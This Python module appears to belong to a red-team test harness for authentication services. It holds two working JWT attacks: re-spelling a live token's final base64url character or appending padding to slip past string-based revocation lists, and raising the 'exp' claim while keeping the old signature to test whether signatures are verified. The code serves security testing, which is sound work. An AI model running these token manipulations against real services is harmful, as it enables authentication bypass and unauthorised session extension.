"""Present a token that is not quite the one that was issued: spelled, or saying something, otherwise."""

import json

from authlab.encoding import b64url_decode, b64url_encode
from authlab.redteam.attack import Attack
from authlab.redteam.evidence import Evidence, Stuck, told
from authlab.redteam.presenting import own_token, present
from authlab.redteam.target import Target

# The end of a signature: its last two bits belong to no byte, and what is behind it is no letter at all.
_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
JUNK = ("=", "~~~~")


def another_spelling(target: Target) -> Evidence:
    """Change the last letter of a live token within its two unused bits, then put junk behind it."""
    token = _live(target)
    first = _LETTERS.index(token[-1]) & ~3
    spelled = {
        f"another last letter, {letter}": token[:-1] + letter
        for letter in _LETTERS[first : first + 4]
        if letter != token[-1]
    } | {f"{junk} behind the signature": token + junk for junk in JUNK}
    answers = {how: target.ask("/auth/me", token=other) for how, other in spelled.items()}
    if taken := [how for how, answer in answers.items() if answer.status_code == 200]:
        seen = f"one token, {1 + len(taken)} texts: accepted with {taken[0]}"
        return told("alive", seen, answers[taken[0]])
    return told("dead", f"{len(answers)} other spellings of a live token are refused", *answers.values())


def changed_payload(target: Target) -> Evidence:
    """Let a live token live an hour longer, and leave its signature as it is."""
    header, payload, signature = _live(target).split(".")
    claims = json.loads(b64url_decode(payload))
    claims["exp"] = claims.get("exp", 0) + 3600
    changed = b64url_encode(json.dumps(claims).encode())
    return present(target, "a payload with another exp", [f"{header}.{changed}.{signature}"])


def _live(target: Target) -> str:
    """Return a token that `/auth/me` takes, and that is one: three parts. Raises `Stuck`."""
    token = own_token(target)
    if token.count(".") != 2 or token[-1] not in _LETTERS:
        raise Stuck("what a login gives is no signed token")
    return token


ATTACKS = (
    Attack("another spelling of a token", "09", another_spelling,
           "A list of ended tokens, kept as texts, does not know the second text of the same token."),
    Attack("a changed payload", "09", changed_payload,
           "Where no signature is checked, everybody is whoever they write that they are."),
)  # fmt: skip
